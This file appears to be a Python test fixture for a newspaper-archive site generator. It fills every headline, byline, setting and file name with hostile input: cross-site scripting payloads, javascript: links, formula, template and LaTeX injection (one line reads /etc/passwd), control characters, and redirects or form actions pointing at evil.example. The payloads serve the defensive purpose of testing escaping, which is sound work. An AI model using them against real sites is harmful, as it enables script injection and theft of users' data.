"""An archive of which every word was written by an enemy.

What would be a script, a formula or an element stands wherever an archive takes text from people.
"""

import json
from pathlib import Path

from tests.small_archive import PLACES, SITE, TOPICS

ATTACKS = (
    "<script>evil(1)</script>",
    '"><img src=x onerror=evil(2)>',
    "'><svg onload=evil(3)></svg>",
    "</title><script>evil(4)</script>",
    "</script><script>evil(5)</script>",
    "<!--<script>evil(6)</script>",
    "]]><script>evil(7)</script>",
    "=HYPERLINK(1)+evil",
    "@evil",
    "javascript:evil(8)",
    '" onmouseover=evil(9) data-evil="',
    "` onfocus=evil(10) autofocus `",
    "&lt;img src=x onerror=evil(11)&gt;",
    "<x-evil data-evil=1>",
    "<a href=javascript:evil(12)>去</a>",
    "\\u003cscript>evil(13)\\u003c/script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "</style></textarea></noscript></template><x-evil>",
    "<iframe srcdoc='<script>parent.evil(14)</script>'>",
    "<form action=//evil.example><button formaction=javascript:evil(15)>",
    "}\\end{x}\\input{/etc/passwd}",
    "{{ 7*7 }}{% raw %}{# x #}",
    "${evil(16)}",
    "＝evil(17)",
    "\r\nTY  - JOUR\rUR  - http://evil.example",
    "\u202e<script>evil(18)</script>\u2028TY  - JOUR\u2029",
    "\x1b]0;evil\x07\x85TY  - JOUR\x0b\x0c\x9b2J\x7f",
    "\t=evil(19)",
    "\ufffe\uffff\U000e0001\u2066evil\ufeff",
    "} , title = {evil",
)

MARKDOWN = """# {attack}

<script>evil(21)</script>

<img src=x onerror=evil(22)>

[一](javascript:evil(23)) [二](JaVaScRiPt:evil(24)) [三](data:text/html,<script>evil(25)</script>)

[四](vbscript:evil(26))

[五](&#106;avascript:evil(27)) ![六](x"onerror="evil(28)) ![七](//evil.example/x.png) <javascript:evil(29)>

[八](/topics/ "\\" onmouseover=\\"evil(30)") [九][r] `<script>evil(31)</script>`

[r]: javascript:evil(32) "<script>evil(33)</script>"

```"><script>evil(34)</script>
<script>evil(35)</script>
```

| <b onclick=evil(36)> |
|---|
| {attack} |
"""


def write_hostile(root: Path) -> None:
    """Write the archive: each attack is a headline and much else, and the settings are made of attacks."""
    content = root / "content"
    (content / "issues").mkdir(parents=True)
    (content / "pages").mkdir()
    files = {
        "site.yaml": _site(),
        "topics.yaml": TOPICS.replace("茶业", _quoted(ATTACKS[1])).replace("Tea", _quoted(ATTACKS[0])),
        "places.yaml": PLACES.replace("东关区", _quoted(ATTACKS[2] + "东关区"))
        .replace("short: 东关", f"short: {_quoted('东关')}\n    aliases: [{_quoted(ATTACKS[0])}]")
        .replace("新州市", _quoted(ATTACKS[3])),
        "gone.yaml": f"gone:\n- {{address: old-1, date: 2026, reason: {_quoted(ATTACKS[0] + ATTACKS[1])}}}\n"
        f"- {{address: topics/old/, date: 2026, reason: {_quoted(ATTACKS[3])}, moved: topics/tea/}}\n",
        "pages/about.md": MARKDOWN.replace("{attack}", ATTACKS[1]),
    }
    for name, text in files.items():
        (content / name).write_text(text, encoding="utf-8")
    for number, attack in enumerate(ATTACKS):
        (content / "issues" / _file_name(number, attack)).write_text(_digest(number, attack), encoding="utf-8")


def _site() -> str:
    title, paper, words, rights = ATTACKS[0], ATTACKS[1], ATTACKS[10], ATTACKS[14]
    lines = (f"title: {_quoted(title)}", f"newspaper: {_quoted(paper)}", f"description: {_quoted(words)}")
    return "\n".join([*lines, f"license: {_quoted(rights)}", SITE.rpartition("\n")[0].rpartition("\n")[2], ""])


def _quoted(text: str) -> str:
    """The text as YAML has it between quotes, what does not print escaped."""
    quoted = json.dumps(text, ensure_ascii=False)
    return "".join(char if char.isprintable() else f"\\U{ord(char):08x}" for char in quoted)


def _file_name(number: int, attack: str) -> str:
    """A name that is an attack, too, as far as a file system takes it."""
    name = attack.replace("/", "")[:40]
    return f"{number:02} {name}.txt"


def _digest(number: int, attack: str) -> str:
    """Two articles of which one opens without a headline; every role and field holds the attack."""
    front = [f"date: 2025-12-{number % 9 + 1:02}", f"page: {number + 1}"]
    front += [f"{key}: {_quoted(attack)}" for key in ("number", "section", "source")]
    lines = [
        f"{attack} {{.column}}",
        f"{attack} {{.kicker}}",
        f"# {attack}",
        f"{attack} {{.subtitle}}",
        f"记者 {attack} {{.byline}}",
        f"（{attack}） {{.credit}}",
        f"本报{attack}讯 {{.dateline}}",
        f"东关的茶园里，茶农说{attack}，区长林小满走进茶园。学校新招学生1271人，同比增长12%{attack}。 {{.paragraph}}",
        f"{attack} {{.crosshead}}",
        f"图为{attack} {{.caption}}",
        f"（下转第2版{attack}） {{.jump}}",
        f"{attack} {{.furniture}}",
        "",
        f"{attack}北溪的教师走进学校，茶园里{attack} {{.paragraph .start}}",
    ]
    return "\n".join(["---", *front, "---", "", *lines, ""])
